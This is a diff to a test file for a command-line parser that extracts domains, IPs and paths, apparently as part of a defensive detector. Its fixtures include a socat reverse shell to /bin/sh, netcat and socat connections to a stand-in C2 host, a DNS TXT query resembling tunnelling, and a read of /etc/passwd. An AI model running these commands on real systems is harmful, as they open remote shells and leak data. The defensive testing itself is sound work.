@@ -31,6 +31,9 @@ describe('hosts and addresses in a command line', () => {
     ['busybox nc c2.evil.sbs 443', ['domain c2.evil.sbs']],
     ['curl https://[redacted:userinfo]@files.evil.example/a', ['domain files.evil.example']],
     ['cat /etc/passwd', ['path /etc/passwd']],
+    ['dig @203.0.113.9 TXT x.evil.example', ['ip 203.0.113.9', 'domain x.evil.example']],
+    ['socat TCP:203.0.113.9:443 EXEC:/bin/sh', ['ip 203.0.113.9']],
+    ['socat - openssl:c2.evil.sbs:443', ['domain c2.evil.sbs']],
   ])('%s', (commandLine, expected) => expect(valuesIn(commandLine)).toEqual(expected));
 
   test.each([
@@ -43,6 +46,8 @@ describe('hosts and addresses in a command line', () => {
     'node v20.11.1 app.js server.ts',
     'tar czf backup.tar.gz data.json',
     'curl -o payload.bin -T dump.sql',
+    'curl -d @payload.tmpl -F f=@x.bin',
+    'socat TCP4-LISTEN:8080,fork FILE:a.log',
     'wget -O install.final',
     'scp libfoo.so key.pem backup.tgz',
     'java -cp app.jar com.example.app org.apache.io',
